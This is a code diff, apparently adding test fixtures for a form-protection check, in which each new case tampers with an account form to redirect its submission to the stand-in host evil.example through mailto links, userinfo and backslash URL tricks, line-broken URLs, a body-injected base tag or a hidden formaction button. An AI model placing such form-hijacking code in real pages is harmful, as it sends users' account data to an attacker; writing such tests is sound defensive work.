@@ -53,6 +53,62 @@ const puts: Omit<Disguise, 'claim'>[] = [
     put: () => document.querySelector('form#account, form.new')?.setAttribute('method', 'dialog'),
   },
   {
+    name: 'action-mailto',
+    put: () => {
+      const form = document.querySelector('form#account, form.new');
+      form?.setAttribute('method', 'post');
+      form?.setAttribute('action', 'mailto:take@evil.example');
+    },
+  },
+  {
+    name: 'action-with-user',
+    put: () => {
+      const form = document.querySelector('form#account, form.new');
+      form?.setAttribute('method', 'post');
+      form?.setAttribute('action', `https://${location.host}@evil.example/save`);
+    },
+  },
+  {
+    name: 'action-backslashes',
+    put: () => {
+      const form = document.querySelector('form#account, form.new');
+      form?.setAttribute('method', 'post');
+      form?.setAttribute('action', 'https:\\\\evil.example\\save');
+    },
+  },
+  {
+    name: 'action-line-breaks',
+    put: () => {
+      const form = document.querySelector('form#account, form.new');
+      form?.setAttribute('method', 'post');
+      form?.setAttribute('action', 'ht\ntps:/\t/evil.exa\nmple/save');
+    },
+  },
+  {
+    name: 'action-other-port',
+    put: () => {
+      const form = document.querySelector('form#account, form.new');
+      form?.setAttribute('method', 'post');
+      form?.setAttribute('action', `https://${location.hostname}:8443/save`);
+    },
+  },
+  {
+    name: 'action-blob',
+    put: () => {
+      const form = document.querySelector('form#account, form.new');
+      form?.setAttribute('method', 'post');
+      form?.setAttribute('action', `blob:https://${location.host}/0b8f2a64-1c1e-4c0e-9f0f-3a2b1c0d9e8f`);
+    },
+  },
+  {
+    name: 'action-sub-host',
+    put: () => {
+      const form = document.querySelector('form#account, form.new');
+      form?.setAttribute('method', 'post');
+      form?.setAttribute('action', `https://static.${location.host}/save`);
+    },
+  },
+  {
     name: 'target-frame',
     put: () => document.querySelector('form#account, form.new')?.setAttribute('target', 'inner'),
   },
@@ -123,6 +179,31 @@ const owners: Omit<Disguise, 'claim'>[] = [
   {
     name: 'base-target',
     put: () => document.head.insertAdjacentHTML('afterbegin', '<base data-evil target="inner">'),
+  },
+  {
+    name: 'base-in-the-body',
+    put: () => {
+      document.body.insertAdjacentHTML('beforeend', '<base data-evil href="https://evil.example/">');
+      document.querySelector('form#account, form.new')?.setAttribute('method', 'post');
+      document.querySelector('form#account, form.new')?.setAttribute('action', 'save');
+    },
+  },
+  {
+    name: 'sleeping-submitter',
+    put: () =>
+      document
+        .querySelector('form#account, form.new')
+        ?.insertAdjacentHTML(
+          'beforeend',
+          '<fieldset data-evil disabled hidden><button formmethod="post" formaction="https://evil.example/take">添加</button></fieldset>',
+        ),
+  },
+  {
+    name: 'formmethod-dialog',
+    put: () =>
+      document
+        .querySelector('form#account, form.new')
+        ?.insertAdjacentHTML('beforeend', '<button data-evil formmethod="dialog">添加</button>'),
   },
   {
     name: 'base-same-site',
